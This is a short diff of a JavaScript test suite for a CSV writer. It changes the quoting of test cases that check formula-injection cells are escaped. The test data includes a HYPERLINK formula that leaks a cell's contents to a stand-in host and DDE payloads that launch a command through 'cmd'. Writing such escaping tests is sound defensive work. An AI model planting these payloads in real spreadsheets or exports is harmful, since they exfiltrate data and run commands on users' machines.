@@ -329,8 +329,8 @@ describe('writeCsv', () => {
 	it.each([
 		['=HYPERLINK("http://zły.example/?"&A1;"Faktura")', `'=HYPERLINK(""http://zły.example/?""&A1;""Faktura"")`],
 		['+48 600 100 200', "'+48 600 100 200"],
-		['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
-		['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
+		["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+		["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
 		['\t=1+1', "'\t=1+1"],
 		['\r=1+1', "'\r=1+1"],
 	])('escapes a cell that a spreadsheet would run as a formula: %p', async (note, cell) => {
